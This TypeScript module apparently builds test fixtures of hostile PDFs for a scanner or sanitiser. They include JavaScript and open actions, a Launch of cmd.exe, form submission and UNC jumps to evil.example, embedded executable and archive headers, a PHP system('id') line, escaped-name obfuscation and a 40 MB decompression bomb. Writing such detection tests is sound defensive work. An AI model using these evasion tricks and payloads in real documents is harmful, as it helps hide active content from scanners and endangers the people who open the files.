// PDFs with active or hidden content: scripts, attachments, actions, embedded files, and ways to conceal them.
import { deflateSync } from 'node:zlib'
import { plainPdf, writePdf } from './sample-files.ts'

export interface HostilePdf {
  what: string
  body: Buffer
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

export function hostilePdfs(): HostilePdf[] {
  return [...active(), ...packed(), ...hidden(), ...mixed(), ...broken()]
}

/** Active objects in an otherwise plain document. */
function active(): HostilePdf[] {
  const objects: Record<string, string> = {
    'a script': SCRIPT,
    'a script by an escaped name': '<< /S /J#61vaScript /JS (x) >>',
    'a script by a name of escapes alone': '<< /S /#4A#61#76#61#53#63#72#69#70#74 /JS (x) >>',
    'a tree of scripts': '<< /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>',
    'an action on opening': `<< /Type /Catalog /OpenAction ${SCRIPT} >>`,
    'an action on opening, elsewhere': '<< /Type /Catalog /OpenAction 9 0 R >>',
    'an address on opening, elsewhere':
      '<< /OpenAction 6 0 R >>\nendobj\n6 0 obj\n<< /S /URI /URI (https://evil.example/) >>',
    'an address after a page on opening':
      '<< /OpenAction 6 0 R >>\nendobj\n6 0 obj\n<< /S /GoTo /D [3 0 R /Fit] /Next 9 0 R >>',
    'a page on opening, and later an address':
      '<< /OpenAction 6 0 R >>\nendobj\n6 0 obj\n[3 0 R /Fit]\nendobj\n6 0 obj\n<< /S /URI /URI (x) >>',
    'an action on opening, escaped': '<< /Open#41ction<</S/Named/N/Print>> >>',
    'a program to launch': '<< /S /Launch /F (cmd.exe) >>',
    'a program to launch, escaped': '<< /S /L#61unch /F (cmd.exe) >>',
    'an attachment': '<< /Type /EmbeddedFile /Length 0 >>',
    'a list of attachments': '<< /EmbeddedFiles << /Names [(a) 7 0 R] >> >>',
    'a portfolio': '<< /Collection << /View /D >> >>',
    'rich media': '<< /Subtype /RichMedia /RichMediaContent 7 0 R >>',
    'an XFA form, which has a language of its own': '<< /AcroForm << /XFA [(template) 7 0 R] >> >>',
    'a form that sends its data': '<< /S /SubmitForm /F (https://evil.example/) >>',
    'a form that imports data': '<< /S /ImportData /F (x.fdf) >>',
    'a jump into an attachment': '<< /S /GoToE /T << /R /C >> >>',
    'a jump into another file': '<< /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) >>',
    'a film': '<< /Subtype /Movie /Movie << /F (x.avi) >> >>',
    'a rendition with a script': '<< /S /Rendition /JS (x) >>',
  }
  return [
    ...Object.entries(objects).map(([what, extra]) => ({ what, body: plainPdf({ extra }) })),
    { what: 'protected', body: writePdf(PAGES, '/Encrypt << /Filter /Standard /V 2 >> ') },
    { what: 'protected, escaped', body: writePdf(PAGES, '/#45ncrypt 9 0 R ') },
  ]
}

const PAGES = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']

const FLATE = '/Filter /FlateDecode'
/** An object stream: the numbers and places of its objects, then the objects. */
const INNER = `7 0 8 60 ${'<< /Type /Catalog >>'.padEnd(60)}${SCRIPT}`
const PACKED = deflateSync(Buffer.from(INNER))

function withStream(dictionary: string, body: Buffer): Buffer {
  return plainPdfWith(
    Buffer.concat([
      Buffer.from(`<< ${dictionary} /Length ${body.length} >>\nstream\n`),
      body,
      Buffer.from('\nendstream'),
    ]),
  )
}

/** Scripts in object streams, packed and described in every way. */
function packed(): HostilePdf[] {
  const streams: [what: string, dictionary: string, body: Buffer][] = [
    ['a script in an object stream', `/Type /ObjStm /N 2 /First 9 ${FLATE}`, PACKED],
    [
      'an object stream with a predictor',
      `/Type /ObjStm /N 2 /First 9 ${FLATE} /DecodeParms << /Predictor 12 /Columns 9 >>`,
      differences(INNER),
    ],
    [
      'an object stream whose predictor is in another object',
      `/N 2 /F#69rst 9 ${FLATE} /DecodeParms 9 0 R`,
      differences(INNER),
    ],
    ['an object stream without a type', FLATE, PACKED],
    ['an object stream as a picture', `/Subtype /Image /N 2 /First 9 ${FLATE}`, PACKED],
    [
      'an object stream in ASCII85',
      '/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]',
      ascii85(PACKED),
    ],
    [
      'an object stream in hexadecimal digits',
      '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]',
      Buffer.from(`${PACKED.toString('hex')}>`),
    ],
    ['an outdated compression', '/Type /ObjStm /Filter /LZWDecode', Buffer.from('80aa')],
    ['an object stream that is cut', `/Type /ObjStm ${FLATE}`, damaged(INNER)],
    ['an object stream that is a bomb', `/Type /ObjStm ${FLATE}`, bomb()],
  ]
  return streams.map(([what, dictionary, body]) => ({ what, body: withStream(dictionary, body) }))
}

/** Forty million spaces in forty kilobytes. */
function bomb(): Buffer {
  return deflateSync(Buffer.concat([Buffer.from('7 0 8 20 '), Buffer.alloc(40_000_000, 0x20)]))
}

/** Objects where a reader that looks for streams would skip them. */
function hidden(): HostilePdf[] {
  return [
    {
      what: 'objects after the word stream in a comment',
      body: plainPdf({ extra: `% stream\n${SCRIPT}\n% endstream` }),
    },
    {
      what: 'objects in a stream that ends early',
      body: withStream('', Buffer.from(`endstream ${SCRIPT}`)),
    },
    {
      what: 'thirty thousand beginnings of streams',
      body: plainPdf({ extra: 'stream\n'.repeat(30_000) }),
    },
  ]
}

/** Rows of nine bytes, each encoded as the difference from the row above: the PNG filter 2, which begins every row. */
function differences(text: string): Buffer {
  const plain = Buffer.from(text)
  const rows: number[] = []
  for (const [at, byte] of plain.entries()) {
    if (at % 9 === 0) rows.push(2)
    rows.push((byte - (plain[at - 9] ?? 0)) & 255)
  }
  return deflateSync(Buffer.from(rows))
}

/** Valid at the beginning, so that objects are found, and corrupt at the end. */
function damaged(inner: string): Buffer {
  const long = deflateSync(
    Buffer.from(inner + Array.from({ length: 9_000 }, (_, at) => `${at * 7919} `).join('')),
  )
  return Buffer.concat([long.subarray(0, long.length - 900), Buffer.alloc(900, 0x99)])
}

function ascii85(bytes: Buffer): Buffer {
  let text = ''
  for (let at = 0; at < bytes.length; at += 4) {
    const group = Buffer.alloc(4)
    const length = bytes.copy(group, 0, at, at + 4)
    let value = group.readUInt32BE(0)
    const digits: string[] = []
    for (let place = 0; place < 5; place += 1) {
      digits.unshift(String.fromCharCode(33 + (value % 85)))
      value = Math.floor(value / 85)
    }
    text += digits.slice(0, length + 1).join('')
  }
  return Buffer.from(`${text}~>`)
}

/** Other file types within the document. */
function mixed(): HostilePdf[] {
  const zip = `PK\u0003\u0004\u0014\u0000\u0000\u0000\u0000\u0000${'\u0000'.repeat(16)}\u0004\u0000\u0000\u0000evil`
  const end = `PK\u0005\u0006${'\u0000'.repeat(18)}`
  const program = Buffer.alloc(200)
  program.write('MZ', 0)
  program.writeUInt32LE(128, 60)
  program.write('PE\0\0', 128)
  const embedded: Record<string, Buffer> = {
    'a zip in a stream': Buffer.from(zip, 'latin1'),
    'the end of a zip': Buffer.from(end, 'latin1'),
    'a rar': Buffer.from('Rar!\u001a\u0007\u0000', 'latin1'),
    'a 7z': Buffer.from("7z\u00bc\u00af'\u001c", 'latin1'),
    'an old office file': Buffer.from('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1', 'latin1'),
    'a Linux program': Buffer.from('\u007fELF\u0002\u0001\u0001\u0000', 'latin1'),
    'a Windows program': program,
    'an HTML page': Buffer.from('<HTML><body onload=alert(1)>'),
    'an HTML script': Buffer.from('<script>alert(1)</script>'),
    PHP: Buffer.from('<?php system("id"); ?>'),
    'an SVG': Buffer.from('<svg width="1" xmlns="http://www.w3.org/2000/svg" onload="x">'),
    'an HTML frame': Buffer.from('<iframe src=x>'),
  }
  const made = Object.entries(embedded).map(([what, body]) => ({
    what: `${what} within the PDF`,
    body: plainPdfWith(
      Buffer.concat([
        Buffer.from(`<< /Length ${body.length} >>\nstream\n`),
        body,
        Buffer.from('\nendstream'),
      ]),
    ),
  }))
  const plain = plainPdf()
  return [
    ...made,
    { what: 'a zip after the PDF', body: Buffer.concat([plain, Buffer.from(zip + end, 'latin1')]) },
    {
      what: 'an HTML page before the PDF',
      body: Buffer.concat([Buffer.from('<html><script>x</script>\n'), plain]),
    },
    {
      what: 'an HTML page after the PDF',
      body: Buffer.concat([plain, Buffer.from('<html><script>x</script>')]),
    },
    { what: 'a program before the PDF', body: Buffer.concat([program, plain]) },
    {
      what: 'a script in its first line',
      body: withFirstLine('%PDF-1.7 <script>alert(1)</script>\n'),
    },
  ]
}

function broken(): HostilePdf[] {
  const plain = plainPdf()
  return [
    { what: 'cut in half', body: plain.subarray(0, plain.length >> 1) },
    { what: 'without its end', body: plain.subarray(0, plain.length - 8) },
    { what: 'its first line alone', body: Buffer.from('%PDF-1.7\n') },
    { what: 'its first and last line alone', body: Buffer.from('%PDF-1.7\n%%EOF\n') },
    { what: 'a byte before the PDF', body: Buffer.concat([Buffer.from('\n'), plain]) },
    { what: 'bytes after the PDF', body: Buffer.concat([plain, Buffer.alloc(2000, 0x61)]) },
    { what: 'a version that does not exist', body: withFirstLine('%PDF-9.9\n') },
  ]
}

/** A plain PDF with another first line. */
function withFirstLine(line: string): Buffer {
  const plain = plainPdf()
  return Buffer.concat([Buffer.from(line), plain.subarray(9)])
}

function plainPdfWith(object: Buffer): Buffer {
  return writePdf([...PAGES, object])
}
